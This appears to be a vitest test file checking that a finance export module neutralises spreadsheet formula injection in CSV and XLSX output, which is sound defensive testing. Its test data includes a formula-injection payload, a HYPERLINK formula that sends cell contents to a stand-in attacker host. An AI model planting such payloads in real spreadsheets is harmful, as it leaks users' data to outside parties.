import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { sheetToCsv, sheetToXlsx, type Sheet } from "./finance-export.server";

const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Apri")', "=2+3", "+1", "-1+2", "@SUM(A1)"];
const sheet: Sheet = {
  name: "Registro",
  title: "Registro spese",
  columns: [
    { header: "Descrizione", kind: "text" },
    { header: "Importo", kind: "money" },
  ],
  rows: [...hostile.map((text) => [text, 100]), ["Storno", -123_456]],
};

describe("finance exports", () => {
  it("neutralise formula cells in CSV and keep negative amounts as numbers", () => {
    const lines = sheetToCsv(sheet).replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    expect(lines[0]).toBe("Descrizione;Importo");
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")";1,00`);
    expect(lines.slice(2, 6)).toEqual(["'=2+3;1,00", "'+1;1,00", "'-1+2;1,00", "'@SUM(A1);1,00"]);
    expect(lines[6]).toBe("Storno;-1234,56");
  });

  it("write such cells into XLSX as text, never as formulas", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await sheetToXlsx(sheet)) as never);
    const worksheet = workbook.worksheets[0];
    // Row 1 is the title, row 2 empty, row 3 the header.
    hostile.forEach((text, i) => {
      const cell = worksheet.getRow(4 + i).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(text);
    });
    expect(worksheet.getRow(9).getCell(2).value).toBe(-1234.56);
  });
});
